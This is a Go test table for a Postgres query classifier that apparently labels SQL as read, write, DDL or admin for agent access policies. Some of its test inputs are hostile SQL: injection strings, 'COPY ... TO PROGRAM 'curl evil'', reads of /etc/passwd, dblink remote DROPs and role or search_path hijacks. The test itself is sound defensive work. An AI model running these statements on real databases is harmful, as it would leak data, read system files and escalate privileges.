package sql

import (
	"strings"
	"testing"

	"github.com/sluicehq/sluice/policies"
)

// classCase is one row of the classification table: the classes of the
// whole query, and the tables and functions of all its statements in order
// of appearance ("schema.name:op", qualified function names).
type classCase struct {
	sql     string
	classes string
	tables  string
	funcs   string
}

var classCases = []classCase{
	// Ordinary reads.
	{"SELECT 1", "{read}", "", ""},
	{"SELECT id, name FROM users WHERE id = $1", "{read}", "users:read", ""},
	{"SELECT * FROM public.users u JOIN orders o ON o.uid = u.id", "{read}", "public.users:read,orders:read", ""},
	{"TABLE t", "{read}", "t:read", ""},
	{"VALUES (1), (2)", "{read}", "", ""},
	{"SELECT count(*), lower(name) FROM t GROUP BY 2", "{read}", "t:read", "count,lower"},
	{"SELECT pg_catalog.lower('A')", "{read}", "", "pg_catalog.lower"},
	{"SELECT * FROM t TABLESAMPLE SYSTEM (10)", "{read}", "t:read", ""},
	{"SELECT now(), current_setting('search_path'), pg_sleep(0)", "{read}", "", "now,current_setting,pg_sleep"},
	{"WITH c AS (SELECT * FROM t) SELECT * FROM c", "{read}", "t:read", ""},
	{"WITH users AS (SELECT 1 AS ssn) SELECT ssn FROM users", "{read}", "", ""},
	{"SELECT * FROM JSON_TABLE('[]'::jsonb, '$[*]' COLUMNS (a int PATH '$.a')) jt", "{read}", "", ""},
	{"SELECT set_config('statement_timeout', '1s', false)", "{read}", "", "set_config"},
	{"SELECT txid_current(), pg_current_xact_id()", "{read}", "", "txid_current,pg_current_xact_id"},
	{"SELECT table_to_xml('users', true, false, '')", "{read}", "", "table_to_xml"},

	// Literals, comments and quoting never count.
	{"SELECT 'DROP TABLE x'", "{read}", "", ""},
	{"SELECT $$; DELETE FROM t; $$", "{read}", "", ""},
	{"SELECT $tag$ ; DROP TABLE t; $tag$", "{read}", "", ""},
	{"SELECT 1 /* ; DROP TABLE t */", "{read}", "", ""},
	{"SELECT 1 /* /* nested */ ; DROP TABLE t */", "{read}", "", ""},
	{"SELECT 1 -- ; DROP TABLE t", "{read}", "", ""},
	{"SELECT E'\\'; DROP TABLE t; --'", "{read}", "", ""},
	{"SELECT U&'\\0044ROP TABLE t'", "{read}", "", ""},
	{`SELECT "DROP TABLE t" FROM "my table"`, "{read}", "my table:read", ""},
	{`SELECT U&"d\0061ta" FROM t`, "{read}", "t:read", ""},
	// With standard_conforming_strings on (pg_query's and Postgres's
	// default), a backslash does not escape: the DROP is a statement.
	{"SELECT 'a\\'; DROP TABLE t; --'", "{read,ddl}", "t:ddl", ""},
	{`DROP TABLE U&"\0074"`, "{ddl}", "t:ddl", ""},

	// Multi-statement: every statement counts.
	{"SELECT 1; DROP TABLE x", "{read,ddl}", "x:ddl", ""},
	{"SELECT 1;;SELECT 2;", "{read}", "", ""},
	{"BEGIN; DELETE FROM t; COMMIT", "{read,write}", "t:delete", ""},

	// Writes, including where they hide.
	{"INSERT INTO t (a) VALUES (1)", "{write}", "t:insert", ""},
	{"INSERT INTO t SELECT * FROM u", "{read,write}", "t:insert,u:read", ""},
	{"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", "{write}", "t:insert,t:update", ""},
	{"UPDATE t SET a = 1 FROM u WHERE t.id = u.id", "{write}", "t:update,u:read", ""},
	{"DELETE FROM s.t USING u WHERE s.t.id = u.id", "{write}", "s.t:delete,u:read", ""},
	{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", "{write}", "t:merge,s:read", ""},
	{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "{read,write}", "t:delete", ""},
	{"WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT 1", "{read,write}", "t:update", ""},
	{"SELECT * FROM t WHERE id = 1 FOR UPDATE", "{read,write}", "t:read", ""},
	{"SELECT * FROM t WHERE x IN (SELECT y FROM u FOR SHARE)", "{read,write}", "t:read,u:read", ""},
	{"SELECT nextval('s')", "{read,write}", "", "nextval"},
	{"SELECT lower(x) FROM t WHERE y = ANY (SELECT setval('s', 1))", "{read,write}", "t:read", "lower,setval"},
	{"SELECT pg_advisory_lock(1)", "{read,write}", "", "pg_advisory_lock"},
	{"SELECT pg_notify('c', 'x')", "{read,write}", "", "pg_notify"},
	{"NOTIFY c", "{write}", "", ""},
	{"LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "{write}", "t:lock", ""},
	{"COPY t FROM STDIN", "{write}", "t:insert", ""},
	{"COPY t TO STDOUT", "{read}", "t:read", ""},
	{"COPY (DELETE FROM t RETURNING *) TO STDOUT", "{read,write}", "t:delete", ""},
	{"DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", "{read,write}", "t:read", ""},

	// Unknown functions: write, fail closed for read-only agents.
	{"SELECT my_func()", "{read,write}", "", "my_func"},
	{"SELECT * FROM my_srf(1)", "{read,write}", "", "my_srf"},
	{"SELECT myschema.lower('x')", "{read,write}", "", "myschema.lower"},
	{`SELECT "PG_TERMINATE_BACKEND"(1)`, "{read,write}", "", "PG_TERMINATE_BACKEND"},
	{"EXPLAIN SELECT my_func()", "{read,write}", "", "my_func"},

	// EXPLAIN runs its statement only with ANALYZE.
	{"EXPLAIN DELETE FROM t", "{read}", "t:delete", ""},
	{"EXPLAIN ANALYZE DELETE FROM t", "{read,write}", "t:delete", ""},
	{"EXPLAIN (ANALYZE) DELETE FROM t", "{read,write}", "t:delete", ""},
	{"EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM t", "{read,write}", "t:delete", ""},
	{"EXPLAIN (ANALYZE false) DELETE FROM t", "{read}", "t:delete", ""},
	{"EXPLAIN (ANALYZE off) DROP TABLE t", "{unknown}", "", ""}, // not explainable: a parse error

	// DDL.
	{"CREATE TABLE x (id int)", "{ddl}", "x:ddl", ""},
	{"CREATE TEMP TABLE x (id int)", "{ddl}", "x:ddl", ""},
	{"CREATE TABLE x AS SELECT * FROM t", "{read,ddl}", "x:ddl,t:read", ""},
	{"SELECT * INTO x FROM t", "{read,ddl}", "x:ddl,t:read", ""},
	{"CREATE MATERIALIZED VIEW mv AS SELECT 1", "{read,ddl}", "mv:ddl", ""},
	{"CREATE VIEW v AS SELECT * FROM t", "{read,ddl}", "v:ddl,t:read", ""},
	{"ALTER TABLE t ADD COLUMN c int DEFAULT nextval('s')", "{write,ddl}", "t:ddl", "nextval"},
	{"CREATE INDEX ON t (lower(x))", "{read,ddl}", "t:ddl", "lower"},
	{"DROP TABLE a.b, c", "{ddl}", "a.b:ddl,c:ddl", ""},
	{"TRUNCATE t", "{ddl}", "t:truncate", ""},
	{"COMMENT ON TABLE t IS 'x'", "{ddl}", "", ""},
	{"CREATE SCHEMA s CREATE TABLE t (x int)", "{ddl}", "t:ddl", ""},
	{"CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u", "{write,ddl}", "t:ddl,u:delete", ""},
	{"CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "{ddl}", "t:ddl", ""},
	{"DISCARD TEMP", "{ddl}", "", ""},
	{"IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "{ddl}", "", ""},
	// Stored code is classed by what it could do when it runs.
	{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "{read,ddl}", "", ""},
	{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t RETURNING 1 $$", "{write,ddl}", "", ""},
	{"CREATE FUNCTION f() RETURNS bool LANGUAGE sql AS $$ SELECT pg_terminate_backend(1) $$", "{ddl,admin}", "", ""},
	{"CREATE FUNCTION f() RETURNS bool LANGUAGE sql AS $$ SELEC $$", "{ddl,unknown}", "", ""},
	{"CREATE FUNCTION f() RETURNS bool LANGUAGE sql BEGIN ATOMIC SELECT pg_reload_conf(); END", "{read,ddl,admin}", "", "pg_reload_conf"},
	{"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", "{ddl,admin}", "", ""},
	{"CREATE PROCEDURE p() LANGUAGE c AS 'lib', 'sym'", "{ddl,admin}", "", ""},
	{"CREATE VIEW v AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "{read,ddl,admin}", "v:ddl,pg_stat_activity:read", "pg_terminate_backend"},
	{"CREATE TABLE t (x bool DEFAULT pg_reload_conf())", "{ddl,admin}", "t:ddl", "pg_reload_conf"},

	// Admin: privileges, settings, server, code sluice cannot see.
	{"GRANT SELECT ON t TO bob", "{admin}", "t:ddl", ""},
	{"REVOKE ALL ON t FROM bob", "{admin}", "t:ddl", ""},
	{"CREATE ROLE x", "{admin}", "", ""},
	{"ALTER ROLE x SUPERUSER", "{admin}", "", ""},
	{"ALTER ROLE x RENAME TO y", "{admin}", "", ""},
	{"DROP ROLE x", "{admin}", "", ""},
	{"ALTER TABLE t OWNER TO bob", "{ddl,admin}", "t:ddl", ""},
	{"ALTER TABLE t DISABLE ROW LEVEL SECURITY", "{ddl,admin}", "t:ddl", ""},
	{"CREATE POLICY p ON t USING (true)", "{admin}", "t:ddl", ""},
	{"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "{admin}", "", ""},
	{"REASSIGN OWNED BY a TO b", "{admin}", "", ""},
	{"SECURITY LABEL ON TABLE t IS 'x'", "{admin}", "", ""},
	{"CREATE EXTENSION dblink", "{admin}", "", ""},
	{"DROP EXTENSION dblink", "{admin}", "", ""},
	{"CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw", "{admin}", "", ""},
	{"CREATE USER MAPPING FOR bob SERVER srv", "{admin}", "", ""},
	{"CREATE PUBLICATION p FOR ALL TABLES", "{admin}", "", ""},
	{"CREATE DATABASE d", "{admin}", "", ""},
	{"ALTER SYSTEM SET work_mem = '1GB'", "{admin}", "", ""},
	{"LOAD 'plugin'", "{admin}", "", ""},
	{"CHECKPOINT", "{admin}", "", ""},
	{"VACUUM", "{admin}", "", ""},
	{"VACUUM FULL t", "{admin}", "t:maintain", ""},
	{"ANALYZE t", "{admin}", "t:maintain", ""},
	{"CLUSTER t USING i", "{admin}", "t:maintain", ""},
	{"REINDEX TABLE t", "{admin}", "t:maintain", ""},
	{"REFRESH MATERIALIZED VIEW mv", "{admin}", "mv:maintain", ""},
	{"COPY t TO PROGRAM 'curl evil'", "{admin}", "t:read", ""},
	{"COPY t FROM PROGRAM 'id'", "{admin}", "t:insert", ""},
	{"COPY t FROM '/etc/passwd'", "{admin}", "t:insert", ""},
	{"COPY t TO '/tmp/x'", "{admin}", "t:read", ""},
	{"DO $$ BEGIN PERFORM 1; END $$", "{admin}", "", ""},
	{"CALL proc()", "{admin}", "", "proc"},
	{"SELECT pg_terminate_backend(1)", "{read,admin}", "", "pg_terminate_backend"},
	{"SELECT public.pg_terminate_backend(1)", "{read,admin}", "", "public.pg_terminate_backend"},
	{`SELECT "pg_cancel_backend"(1)`, "{read,admin}", "", "pg_cancel_backend"},
	{"SELECT * FROM t WHERE id = (SELECT pg_cancel_backend(pid) FROM pg_stat_activity LIMIT 1)", "{read,admin}", "t:read,pg_stat_activity:read", "pg_cancel_backend"},
	{"SELECT 1 FROM t WHERE pg_catalog.pg_reload_conf()", "{read,admin}", "t:read", "pg_catalog.pg_reload_conf"},
	{"SELECT set_config('role', 'x', false)", "{read,admin}", "", "set_config"},
	{"SELECT set_config(name, 'x', false) FROM t", "{read,admin}", "t:read", "set_config"},
	{"SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", "{read,admin}", "", "dblink"},
	{"SELECT ext.dblink_exec('host=x', 'DROP TABLE t')", "{read,admin}", "", "ext.dblink_exec"},
	{"SELECT lo_import('/etc/passwd')", "{read,admin}", "", "lo_import"},
	{"SELECT pg_read_file('/etc/passwd')", "{read,admin}", "", "pg_read_file"},
	{"SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", "{read,admin}", "", "query_to_xml"},
	{"SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "{read,admin}", "", "pg_create_logical_replication_slot"},
	{"SELECT binary_upgrade_set_next_pg_type_oid(1)", "{read,admin}", "", "binary_upgrade_set_next_pg_type_oid"},

	// Settings.
	{"SET statement_timeout = 5000", "{read}", "", ""},
	{"SET LOCAL lock_timeout TO '1s'", "{read}", "", ""},
	{"SET application_name = 'agent'", "{read}", "", ""},
	{"SET TIME ZONE 'UTC'", "{read}", "", ""},
	{"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "{read}", "", ""},
	{"SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "{read}", "", ""},
	{"RESET statement_timeout", "{read}", "", ""},
	{"SET ROLE admin", "{admin}", "", ""},
	{"RESET ROLE", "{admin}", "", ""},
	{"SET SESSION AUTHORIZATION bob", "{admin}", "", ""},
	{"SET search_path = evil, public", "{admin}", "", ""},
	{"SET standard_conforming_strings = off", "{admin}", "", ""},
	{"SET client_encoding = 'SJIS'", "{admin}", "", ""},
	{"SET app.tenant_id = '42'", "{admin}", "", ""},
	{"SET work_mem = '8GB'", "{admin}", "", ""},
	{"RESET ALL", "{admin}", "", ""},
	{"DISCARD ALL", "{admin}", "", ""},
	{"DISCARD PLANS", "{read}", "", ""},

	// Transaction control and session housekeeping: read.
	{"BEGIN", "{read}", "", ""},
	{"START TRANSACTION READ WRITE", "{read}", "", ""},
	{"COMMIT", "{read}", "", ""},
	{"ROLLBACK", "{read}", "", ""},
	{"SAVEPOINT a; RELEASE SAVEPOINT a; ROLLBACK TO SAVEPOINT a", "{read}", "", ""},
	{"SET CONSTRAINTS ALL DEFERRED", "{read}", "", ""},
	{"PREPARE TRANSACTION 'x'", "{admin}", "", ""},
	{"COMMIT PREPARED 'x'", "{admin}", "", ""},
	{"ROLLBACK PREPARED 'x'", "{admin}", "", ""},
	{"SHOW search_path", "{read}", "", ""},
	{"SHOW ALL", "{read}", "", ""},
	{"LISTEN c", "{read}", "", ""},
	{"UNLISTEN *", "{read}", "", ""},
	{"FETCH ALL FROM c", "{read}", "", ""},
	{"MOVE NEXT IN c", "{read}", "", ""},
	{"CLOSE c", "{read}", "", ""},
	{"DEALLOCATE p", "{read}", "", ""},

	// PREPARE takes its statement's class; EXECUTE needs the session.
	{"PREPARE p AS DELETE FROM t WHERE id = $1", "{read,write}", "t:delete", ""},
	{"PREPARE p (int) AS SELECT * FROM t WHERE id = $1", "{read}", "t:read", ""},
	{"EXECUTE p", "{unknown}", "", ""},
	{"EXECUTE p (pg_terminate_backend(1))", "{admin,unknown}", "", "pg_terminate_backend"},
	{"EXPLAIN ANALYZE EXECUTE p", "{read,unknown}", "", ""},
	{"CREATE TABLE x AS EXECUTE p", "{ddl,unknown}", "x:ddl", ""},

	// Unparseable: one statement, unknown.
	{"SELEC 1", "{unknown}", "", ""},
	{"SELECT 1; DROP TABLE x; SELEC", "{unknown}", "", ""},
	{"SELECT 'unterminated", "{unknown}", "", ""},
	{"SELECT $$ unterminated", "{unknown}", "", ""},
	{"SELECT 1 /* unterminated", "{unknown}", "", ""},

	// Nothing at all.
	{"", "{}", "", ""},
	{" ; ;", "{}", "", ""},
	{"-- just a comment", "{}", "", ""},
}

func TestClasses(t *testing.T) {
	a := New(WithCacheSize(0))
	for _, tc := range classCases {
		an := a.Analyze(tc.sql)
		if got := an.Classes.String(); got != tc.classes {
			t.Errorf("%q: classes %s, want %s", tc.sql, got, tc.classes)
		}
		var tables, funcs []string
		for _, st := range an.Statements {
			for _, tb := range st.Tables {
				tables = append(tables, tb.String())
			}
			for _, f := range st.Functions {
				funcs = append(funcs, f.String())
			}
		}
		if got := strings.Join(tables, ","); got != tc.tables {
			t.Errorf("%q: tables %q, want %q", tc.sql, got, tc.tables)
		}
		if got := strings.Join(funcs, ","); got != tc.funcs {
			t.Errorf("%q: functions %q, want %q", tc.sql, got, tc.funcs)
		}
		for _, st := range an.Statements {
			if st.Classes == 0 {
				t.Errorf("%q: statement %q has no class", tc.sql, st.Text)
			}
			if st.Err != nil && !st.Classes.Has(policies.ClassUnknown) {
				t.Errorf("%q: statement %q: err %v but classes %s", tc.sql, st.Text, st.Err, st.Classes)
			}
		}
	}
}
